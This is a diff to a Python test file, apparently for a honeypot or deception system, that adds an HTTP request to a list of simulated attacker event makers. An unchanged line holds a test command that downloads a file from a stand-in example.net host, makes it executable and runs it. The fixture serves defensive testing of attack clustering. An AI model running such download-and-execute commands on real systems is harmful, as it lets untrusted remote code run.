@@ -25,7 +25,7 @@ from tests.decnet_workers.clusterer.scenes import (
 )
 from tests.examples import examples
 
-from decnet_core.events.catalogue import Payload
+from decnet_core.events.catalogue import HttpRequest, Payload
 from decnet_core.events.envelope import Event
 from decnet_models.database.engine import reading
 from decnet_models.identities.tables import identity_attacker, identity_core
@@ -40,6 +40,7 @@ MAKERS: list[Callable[[str], Payload]] = [
     lambda name: command(f"wget http://{name}.example.net/a; chmod 777 a; ./a; run {name}"),
     lambda name: command(f"own-{name} --flag; second-{name}; third-{name}"),
     lambda name: password(f"user{name}", f"secret-{name}"),
+    lambda name: HttpRequest(method="GET", target="/", user_agent=f"bot (+https://{name}.example.net/)"),
 ]
 
 
